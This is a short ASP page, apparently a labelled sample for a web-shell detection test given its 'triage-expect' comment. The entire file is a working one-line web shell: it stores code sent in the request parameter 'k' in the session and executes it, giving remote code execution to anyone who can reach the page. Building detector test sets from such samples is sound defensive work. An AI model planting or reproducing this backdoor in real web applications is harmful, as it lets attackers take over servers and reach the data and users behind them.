<%
' triage-expect: triage_asp_eval_request
' The request's code is parked in the session, then executed from there.
session("k") = request("k")
execute session("k")
%>
